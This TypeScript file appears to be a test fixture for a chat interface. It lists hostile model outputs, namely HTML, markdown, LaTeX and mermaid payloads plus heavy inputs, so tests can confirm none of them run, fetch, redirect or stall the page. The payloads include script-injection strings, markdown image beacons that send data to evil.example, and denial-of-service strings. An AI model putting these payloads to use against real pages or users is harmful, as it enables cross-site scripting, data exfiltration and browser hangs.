// What a model server may answer that means harm: none of it may run, fetch, lead away, or hold up the page. Where one of
// them works, it says so in `document.title`, or asks evil.example.
const OWN = "document.title='owned'";

const MARKUP = [
  `<script>${OWN}</script>`,
  `<scr<script>ipt>${OWN}</script>`,
  `<img src=x onerror="${OWN}">`,
  `<svg onload="${OWN}"><animate onbegin="${OWN}" attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror="${OWN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${OWN}>">`,
  `<details open ontoggle="${OWN}"><summary>x</summary></details>`,
  `<iframe srcdoc="<script>parent.${OWN}</script>"></iframe>`,
  '<iframe src="https://evil.example/frame"></iframe>',
  '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<link rel="stylesheet" href="https://evil.example/style.css">',
  '<style>@import "https://evil.example/import"; body { display: none }</style>',
  '<form action="https://evil.example/form"><input name=q autofocus><button>Continue</button></form>',
  `<video src=x onerror="${OWN}" poster="https://evil.example/poster"></video><audio src="https://evil.example/audio" autoplay>`,
  `<input autofocus onfocus="${OWN}"><a id=config name=config></a><form id=body></form>`,
  `<a href="javascript:${OWN}">click</a> <a href="data:text/html,<script>1</script>">click</a>`,
  `<div style="background:url(https://evil.example/background);position:fixed;inset:0">over all</div>`,
  `<template><script>${OWN}</script></template><noscript><img src=x onerror=${OWN}></noscript>`,
];

const MARKDOWN = [
  '![pixel](https://evil.example/pixel?data=secret)',
  '![pixel](//evil.example/relative) ![pixel](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![a][evil]\n\n[evil]: https://evil.example/reference',
  `[click](javascript:${OWN}) [click](JaVaScRiPt:${OWN}) [click](java\tscript:${OWN})`,
  `[click](&#106;avascript:${OWN}) [click](data:text/html;base64,PHNjcmlwdD4=) [click](vbscript:x)`,
  `[click](https://example.org" onmouseover="${OWN}) [x](https://example.org 'a" onclick="${OWN}')`,
  `<javascript:${OWN}> <https://example.org/"onmouseover="${OWN}>`,
  `\`\`\`"><script>${OWN}</script>\ncode\n\`\`\``,
  `\`\`\`html\n<script>${OWN}</script>\n\`\`\``,
  `[^1]\n\n[^1]: <img src=x onerror="${OWN}"> ![x](https://evil.example/note)`,
  `| a |\n|---|\n| <img src=x onerror="${OWN}"> ![x](https://evil.example/cell) |`,
  `# <img src=x onerror="${OWN}">\n\n- [ ] <svg onload="${OWN}">`,
  `\u202Egnp.exe [https://example.org](https://evil.example/confusable) \u0000\u001b[31m`,
];

const DRAWN = [
  `$\\href{javascript:${OWN}}{x}$ $\\url{javascript:${OWN}}$`,
  '$\\includegraphics{https://evil.example/formula}$ $\\htmlStyle{position:fixed;inset:0}{x}$',
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${OWN}>"] --> B; click A "javascript:${OWN}"\n\`\`\``,
  '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(https://evil.example/theme)"}}%%\ngraph TD; A-->B\n```',
];

/** Shorter ones of those in test/client/ui/hostile.test.ts: here the page lays them out too. */
const HEAVY = [
  `$\\def\\a{\\a\\a}\\a$ ${'$\\rule{9999em}{9999em}$ '.repeat(20)}`,
  `${'> '.repeat(3_000)}deep`,
  '*a_'.repeat(3_000),
  `${'[a]['.repeat(1_500)}\n\n${'$$\n'.repeat(1_500)}`,
];

export const HOSTILE: readonly string[] = [...MARKUP, ...MARKDOWN, ...DRAWN, ...HEAVY];
